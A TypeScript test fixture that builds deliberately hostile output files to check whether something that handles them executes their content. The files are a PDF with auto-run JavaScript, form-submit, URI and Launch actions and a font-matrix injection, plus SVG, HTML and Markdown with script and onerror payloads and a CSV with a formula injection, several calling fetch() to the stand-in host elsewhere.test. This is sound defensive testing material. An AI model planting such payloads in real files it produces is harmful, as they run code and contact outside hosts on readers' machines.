const elsewhere = "http://elsewhere.test";

/** A page with a red square and a word, and every way in which a PDF can be told to act when it is opened. */
function hostilePdf(): string {
  const drawn = "1 0 0 rg 100 100 300 300 re f BT /F1 48 Tf 120 600 Td (Painted) Tj ET";
  const script = `app.alert\\("pdf"\\); this.submitForm\\("${elsewhere}/form"\\)`;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> /Names << /JavaScript << /Names [(a) 6 0 R] >> >> >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 500 700] /Contents 4 0 R /Annots [7 0 R] /AA << /O 6 0 R >>
      /Resources << /Font << /F1 5 0 R >> >> >>`,
    `<< /Length ${drawn.length} >>\nstream\n${drawn}\nendstream`,
    `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 2 3 4 5 (0\\); alert\\('font'\\);//)] >>`,
    `<< /Type /Action /S /JavaScript /JS (${script}) /Next << /S /URI /URI (${elsewhere}/uri) >> >>`,
    `<< /Type /Annot /Subtype /Link /Rect [0 0 500 700] /A << /S /Launch /F (${elsewhere}/launch) >> >>`,
  ];
  let text = "%PDF-1.7\n";
  const places = objects.map((object, index) => {
    const at = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const start = text.length;
  const rows = places.map((at) => `${String(at).padStart(10, "0")} 00000 n \n`).join("");
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}`;
  return `${text}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`;
}

const act = `alert('acted'); fetch('${elsewhere}/script')`;

/** Files that a run may hand on, each of which would act were it taken for more than what it is shown as. */
export const hostileFiles: Readonly<Record<string, string>> = {
  "paper.pdf": hostilePdf(),
  "picture.svg": `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="${act}">
    <script>${act}</script><image href="${elsewhere}/svg.png" width="9" height="9"/><rect width="9" height="9"/></svg>`,
  "page.html": `<!doctype html><img src="${elsewhere}/html.png" onerror="${act}"><script>${act}</script>`,
  "words.md": `# Words\n\n<img src="${elsewhere}/md.png" onerror="${act}"><script>${act}</script>\n
![picture](${elsewhere}/image.png)\n\n[a link](javascript:${encodeURIComponent(act)})\n`,
  "table.csv": `a,b\n=HYPERLINK("${elsewhere}"),<script>${act}</script>\n`,
};

/** A script of a step that writes them. */
export function writingScript(): string {
  const lines = Object.entries(hostileFiles).map(
    ([name, text]) => `echo ${Buffer.from(text).toString("base64")} | base64 -d > outputs/${name}`,
  );
  return ["cd /workspace && mkdir -p outputs", ...lines, "echo done"].join("\n");
}
